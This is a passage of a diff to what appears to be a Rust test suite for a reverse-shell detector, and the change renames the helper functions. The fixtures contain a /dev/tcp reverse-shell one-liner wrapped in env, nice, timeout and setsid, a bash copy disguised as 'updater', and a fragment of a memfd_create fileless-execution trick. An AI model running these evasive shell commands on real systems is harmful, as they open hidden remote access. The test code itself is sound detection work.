@@ -36,7 +36,7 @@ fn gone_at_once(lab: &Lab<'_>, command: &str, file: &Path) -> Result<()> {
     let mut peer = lab.connected(&script, file)?;
     peer.send("go\necho uid=$((40+2))\nexit\n")?;
     peer.read_until("uid=42")?;
-    let finding = lab.finding(peer.ends(), REVERSE)?;
+    let finding = lab.risen_finding(peer.ends(), REVERSE)?;
     lab.ended(&finding)?;
     Ok(())
 }
@@ -173,7 +173,7 @@ m=os.memfd_create("jit-cache",0); os.write(m,open("/bin/dash","rb").read()); os.
             &["env", "nice", "timeout", "setsid"],
             |lab| {
                 let script = "exec 5<>/dev/tcp/$H/$P; exec env -i nice -n 1 timeout 600 setsid -w $X <&5 >&5 2>&5";
-                disguised(lab, script, &lab.copy("bash", "updater")?)
+                lab.reverse_risen(script, &lab.copy("bash", "updater")?)
             },
         ),
         Case::new("identity::deletes_itself", &["bash"], |lab| {
